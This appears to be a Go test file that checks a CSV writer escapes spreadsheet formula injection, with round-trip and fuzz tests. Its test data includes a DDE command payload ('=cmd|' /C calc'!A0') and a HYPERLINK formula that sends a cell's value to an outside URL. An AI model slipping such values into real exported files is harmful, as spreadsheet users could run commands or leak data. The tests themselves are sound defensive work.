package dataset

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+2", "'=1+2"}, {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"}, {"+44 20", "'+44 20"}, {"-5%", "'-5%"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"\n=1", "'\n=1"}, {"＝1+2", "'＝1+2"}, {"-", "'-"}, {"'=1", "''=1"}, {"''-x", "'''-x"},
		{"-5", "-5"}, {"+1.5", "+1.5"}, {"−5%", "−5%"}, {"1=1", "1=1"}, {"'90s", "'90s"}, {"''", "''"}, {"", ""},
	}
	for _, test := range tests {
		got := SafeCell(test.in)
		if got != test.want {
			t.Errorf("SafeCell(%q) = %q, want %q", test.in, got, test.want)
		}
		if back := unsafeCell(got); back != test.in {
			t.Errorf("%q comes back as %q", test.in, back)
		}
	}
}

// TestFormulas writes what a spreadsheet would run and reads it back.
func TestFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://example.org?"&A1,"5")`
	want := Record{ID: "a", Stated: "-5%", Value: NewDecimal(-5, 0), Measure: evil, Context: "'=x", Claimant: "@him", Doubts: Phrases{"+x"}}
	var out bytes.Buffer
	if err := WriteClaims(&out, []Record{want}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range rows[1] {
		if _, err := ParseDecimal(cell); err != nil && strings.ContainsAny(cell[:min(len(cell), 1)], formulaStarts) {
			t.Errorf("a spreadsheet runs %q", cell)
		}
	}
	got, err := ReadClaims("claims.csv", &out)
	if err != nil {
		t.Fatal(err)
	}
	if r := got[0]; r.Measure != evil || r.Stated != "-5%" || r.Context != "'=x" || r.Claimant != "@him" || r.Doubts[0] != "+x" || !r.Value.Equal(want.Value) {
		t.Errorf("read back %+v", r)
	}
}

func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''+", "-5", "'", "\t", "'x", "－"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		safe := SafeCell(s)
		if back := unsafeCell(safe); back != s {
			t.Fatalf("%q, written %q, comes back as %q", s, safe, back)
		}
		if _, err := ParseDecimal(safe); err != nil && safe != "" && strings.ContainsAny(safe[:1], "=+-@\t\r\n") {
			t.Fatalf("%q is written as %q", s, safe)
		}
	})
}
